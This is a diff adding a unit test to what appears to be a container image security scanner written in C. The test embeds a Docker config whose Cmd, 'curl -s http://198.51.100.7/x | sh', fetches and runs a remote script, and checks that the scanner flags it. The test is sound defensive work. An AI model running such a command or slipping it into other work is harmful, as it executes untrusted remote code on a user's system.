@@ -195,6 +195,17 @@ static void test_contents_config_strings(void **state)
     assert_non_null(strstr(f->evidence, "history: "));
     assert_int_equal(f->layer, 1);          /* the empty ENV step made no layer */
     ivet_report_free(r);
+
+    /* Docker also runs a Cmd/Entrypoint written as one string: it is read too */
+    cfg = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"1000\","
+          "\"Entrypoint\":\"/bin/sh -c\",\"Cmd\":\"curl -s http://198.51.100.7/x | sh\"}}";
+    r = scan(&im, cfg, false, NULL, 1);
+    f = find(r, "CONT-DROP-PIPE-SHELL", NULL);
+    if (!f)
+        dump(r);
+    assert_non_null(f);
+    assert_non_null(strstr(f->evidence, "ENTRYPOINT/CMD: "));
+    ivet_report_free(r);
     img_free(&im);
 }
 
